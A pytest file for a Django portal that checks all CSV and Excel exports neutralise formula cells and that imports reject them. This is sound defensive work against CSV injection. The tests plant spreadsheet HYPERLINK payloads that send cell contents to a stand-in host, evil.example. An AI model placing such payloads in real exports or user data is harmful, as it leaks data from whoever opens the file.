"""No CSV or Excel file the portal writes contains a formula, whatever people typed (OWASP CSV injection), and
imports refuse cells that start like one.

The exports are found by walking, not listed: every registered admin that offers an export, in every format it
offers, and every API list endpoint in ``?format=csv``, so a new export is covered without a new test.
"""

import csv
import io

import pytest
from django.contrib import admin
from django.contrib.auth.models import AnonymousUser
from django.core.management import call_command
from django.db import IntegrityError, transaction
from django.test import RequestFactory
from openpyxl import load_workbook

from jeonju_center.accounts.models import User
from jeonju_center.api.routes import all_routes
from jeonju_center.common.spreadsheets import neutralize, starts_like_a_formula
from jeonju_center.partners.scopes import SCOPES
from tests.api.support import partner_client
from tests.text_columns import text_columns

PLANT = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _plant_formulas():
    """Every human text column of every row now starts like a formula (unique per row)."""
    planted = 0
    for model, field in text_columns(also_not_text={"label", "status", "unit"}):
        if model._meta.label_lower == "common.personaldataaccess":
            continue  # append-only by design
        for pk in model._default_manager.values_list("pk", flat=True):
            value = f"={pk}+{PLANT[1:]}"  # the row's number first: unique even when cut to max_length
            value = value[: field.max_length] if field.max_length else value
            try:
                with transaction.atomic():
                    model._default_manager.filter(pk=pk).update(**{field.name: value})
            except IntegrityError:
                continue  # a column a constraint keeps empty or shaped (e.g. only cooperatives file)
            planted += 1
    return planted


def _formula_cells(content, *, binary):
    if binary:
        workbook = load_workbook(io.BytesIO(content))
        return [
            (sheet.title, cell.coordinate, cell.value)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f" or starts_like_a_formula(cell.value)
        ]
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return [
        (None, None, cell)
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if starts_like_a_formula(cell)
    ]


@pytest.fixture
def planted(db):
    call_command("seed_demo", stdout=io.StringIO())
    assert _plant_formulas() > 1000


def test_the_rule():
    assert neutralize(PLANT) == "'" + PLANT
    assert neutralize("@SUM(A1)") == "'@SUM(A1)"
    assert neutralize("\t=1") == "'\t=1"
    assert neutralize("-3") == "-3" and neutralize("+82") == "+82" and neutralize(7) == 7
    assert neutralize("김민지") == "김민지" and neutralize("010-1234-****") == "010-1234-****"


def test_no_admin_export_in_any_format_contains_a_formula(planted):
    root = User.objects.create_superuser("root", "root@example.com", "pw-123456789")
    request = RequestFactory().get("/admin/export/")
    request.user = root
    request.session = {}
    checked = []
    for model, model_admin in admin.site._registry.items():
        if not hasattr(model_admin, "get_export_formats"):
            continue
        for file_format in model_admin.get_export_formats():
            fmt = file_format()
            queryset = model_admin.get_queryset(request)
            content = model_admin.get_export_data(fmt, request, queryset)
            assert _formula_cells(content, binary=fmt.is_binary()) == [], (model._meta.label, fmt.get_title())
            checked.append((model._meta.label, fmt.get_title()))
    assert len(checked) >= 8  # organizations, products, vacant houses, communities… in Excel and CSV


def test_no_api_csv_contains_a_formula(planted):
    client = partner_client(*SCOPES)
    checked = 0
    for prefix, _viewset, _basename in all_routes():
        response = client.get(f"/api/v1/{prefix}/", {"format": "csv", "page_size": 500})
        assert response.status_code == 200, prefix
        assert _formula_cells(response.content, binary=False) == [], prefix
        checked += 1
    assert checked >= 15


def test_roster_and_attendance_files_keep_a_formula_named_citizen_as_text(db):
    from courses.exports import attendance_enrollees, attendance_xlsx, roster_rows, roster_xlsx
    from tests.courses.factories import CourseSessionFactory, EnrollmentFactory, UserFactory, future_course

    course = future_course(title="=1+2 강좌")
    CourseSessionFactory(course=course)
    EnrollmentFactory(course=course, user=UserFactory(name=PLANT), status="confirmed")
    for unmasked in (False, True):
        roster = roster_xlsx(roster_rows(course, unmasked=unmasked), unmasked=unmasked)
        attendance = attendance_xlsx(
            course, attendance_enrollees(course, unmasked=unmasked), unmasked=unmasked
        )
        for content in (roster, attendance):
            assert _formula_cells(content, binary=True) == []
    sheet = load_workbook(
        io.BytesIO(attendance_xlsx(course, attendance_enrollees(course, unmasked=True), unmasked=True))
    ).active
    assert sheet["A1"].value == "'=1+2 강좌 출석부"
    assert any(cell.value == "'" + PLANT for row in sheet.iter_rows() for cell in row)


def test_an_import_refuses_a_cell_that_starts_like_a_formula_and_writes_nothing(db):
    from ondure.models import Community
    from ondure.resources import CommunityResource

    call_command("load_reference_data", stdout=io.StringIO())
    resource = CommunityResource()
    headers = [field.column_name for field in resource.get_import_fields()]
    import tablib

    row = dict.fromkeys(headers, "")
    name_column = next(
        field.column_name for field in resource.get_import_fields() if field.attribute == "name"
    )
    row[name_column] = '=HYPERLINK("http://evil.example")'
    dataset = tablib.Dataset([row[h] for h in headers], headers=headers)
    before = Community.objects.count()
    result = resource.import_data(dataset, dry_run=True, user=AnonymousUser())
    assert result.has_validation_errors() or result.has_errors()
    messages = " ".join(
        str(message)
        for invalid in result.invalid_rows
        for messages_ in invalid.error_dict.values()
        for message in messages_
    ) + " ".join(str(error.error) for _, errors in result.row_errors() for error in errors)
    assert "수식" in messages
    assert Community.objects.count() == before
